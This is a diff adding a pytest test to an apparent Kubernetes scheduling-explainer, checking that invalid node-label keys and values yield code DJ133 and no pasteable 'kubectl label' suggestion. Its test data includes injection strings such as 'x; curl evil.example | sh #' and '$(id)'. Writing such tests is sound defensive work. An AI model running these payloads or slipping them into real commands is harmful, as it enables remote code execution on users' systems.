@@ -132,6 +132,16 @@ def test_a_selector_that_leaves_out_the_nodes_with_sgx_is_named(spec: JsonObject
 
 
 @pytest.mark.parametrize(
+    ("key", "value"),
+    [("disk", "x; curl evil.example | sh #"), ("disk", "a b"), ("disk", "$(id)"), ("disk;id", "ssd"), ("disk", "a" * 64)],
+)
+def test_what_is_no_label_stands_in_no_command_to_paste(key: str, value: str) -> None:
+    told = explain(with_spec(pod("1Gi"), requiring(key, value)), around(node("a")))
+    assert codes(told) == ["DJ133"]
+    assert "kubectl label" not in told.next_step
+
+
+@pytest.mark.parametrize(
     "key",
     [
         *("kubernetes.io/hostname", "topology.kubernetes.io/zone", "node.kubernetes.io/instance-type", "kubernetes.io/arch"),
